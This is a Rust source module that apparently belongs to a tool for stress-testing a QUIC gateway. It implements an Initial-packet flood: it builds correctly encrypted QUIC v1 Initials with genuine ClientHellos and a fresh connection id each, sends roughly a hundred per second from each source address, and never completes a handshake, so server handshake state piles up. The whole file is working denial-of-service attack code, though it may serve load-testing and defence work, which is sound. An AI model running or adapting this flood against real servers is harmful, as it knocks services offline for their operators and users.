//! QUIC Initials: each asks the gate to begin a handshake with a client that never completes it.

use std::net::{IpAddr, SocketAddr};
use std::sync::Arc;
use std::time::Duration;

use rustls::Side;
use rustls::crypto::ring::cipher_suite::TLS13_AES_128_GCM_SHA256;
use rustls::quic::{ClientConnection, Keys, Version};
use tokio::net::UdpSocket;
use tokio::time::{Instant, timeout_at};

use super::context::{Attacker, End};
use super::dial::server_name;

/// The least that a datagram with an Initial may have (RFC 9000, section 14.1).
const DATAGRAM: usize = 1_200;
/// A hundred Initials a second from each place.
const PAUSE: Duration = Duration::from_millis(10);
/// The tag of AES-128-GCM, and the length of a packet number here.
const TAG: usize = 16;
const NUMBER: usize = 4;

/// Initials with a fresh connection id each, well encrypted, with a true `ClientHello`; no answer
/// is ever answered.
pub(super) async fn initials(attacker: Attacker) -> End {
    let target = attacker.context.settings.target.address();
    let from = match target.ip() {
        IpAddr::V4(_) => SocketAddr::from((attacker.source(), 0)),
        IpAddr::V6(ip) => SocketAddr::from((ip, 0)),
    };
    let Ok(socket) = UdpSocket::bind(from).await else { return End::NotOpened };
    if socket.connect(target).await.is_err() {
        return End::NotOpened;
    }
    let mut config = (*attacker.context.tls).clone();
    config.alpn_protocols = vec![b"h3".to_vec()];
    let config = Arc::new(config);
    let mut round = 0;
    while attacker.may_continue() {
        let Some(datagram) = initial(&attacker, &config, attacker.unique_number(round)) else {
            return End::NotOpened;
        };
        round += 1;
        attacker.count_datagram(datagram.len());
        if socket.send(&datagram).await.is_err() {
            // Nothing listens there (ICMP), or the queue is full.
            attacker.count_response("not taken");
        }
        let until = (Instant::now() + PAUSE).min(attacker.end());
        let mut answer = [0; 2048];
        while let Ok(Ok(length)) = timeout_at(until, socket.recv(&mut answer)).await {
            attacker.count_response(packet_kind(&answer[..length]));
        }
    }
    End::Finished
}

/// What kind of datagram it is, by its first byte and version (RFC 9000, section 17.2).
fn packet_kind(datagram: &[u8]) -> &'static str {
    match datagram {
        [first, 0, 0, 0, 0, ..] if first & 0x80 != 0 => "version negotiation",
        [first, ..] if first & 0x80 == 0 => "short header",
        [first, ..] => match first >> 4 & 3 {
            0 => "initial",
            1 => "0-RTT",
            2 => "handshake",
            _ => "retry",
        },
        [] => "nothing",
    }
}

/// One datagram (RFC 9000, section 17.2.2; RFC 9001, section 5).
fn initial(
    attacker: &Attacker,
    config: &Arc<rustls::ClientConfig>,
    number: u64,
) -> Option<Vec<u8>> {
    let id = number.wrapping_mul(0x9e37_79b9_7f4a_7c15).to_be_bytes();
    // initial_source_connection_id, which must be the packet's, and nothing else.
    let mut parameters = vec![0x0f, 8];
    parameters.extend(id);
    let name = server_name(attacker.host());
    let mut tls = ClientConnection::new(config.clone(), Version::V1, name, parameters).ok()?;
    let mut hello = Vec::new();
    let _ = tls.write_hs(&mut hello);

    let mut header = vec![0xc0 | (NUMBER as u8 - 1)];
    header.extend(1_u32.to_be_bytes());
    header.push(8);
    header.extend(id);
    header.push(8);
    header.extend(id);
    // No token.
    header.push(0);
    let length_at = header.len();
    let packet_at = length_at + 2;
    let length = DATAGRAM - packet_at;
    header.extend((0x4000 | length as u16).to_be_bytes());
    header.extend([0; NUMBER]);

    // A CRYPTO frame from offset 0, and PADDING behind it.
    let mut payload = vec![0x06, 0x00];
    payload.extend((0x4000 | hello.len() as u16).to_be_bytes());
    payload.extend(hello);
    let space = length - NUMBER - TAG;
    if payload.len() > space {
        return None;
    }
    payload.resize(space, 0);

    let suite = TLS13_AES_128_GCM_SHA256.tls13()?;
    let keys = Keys::initial(Version::V1, suite, suite.quic?, &id, Side::Client);
    let tag = keys.local.packet.encrypt_in_place(0, &header, &mut payload).ok()?;
    let mut datagram = header;
    datagram.extend(payload);
    datagram.extend(tag.as_ref());
    let (head, rest) = datagram.split_at_mut(packet_at);
    let (packet_number, rest) = rest.split_at_mut(NUMBER);
    let sample = rest.get(..keys.local.header.sample_len())?;
    keys.local.header.encrypt_in_place(sample, &mut head[0], packet_number).ok()?;
    Some(datagram)
}
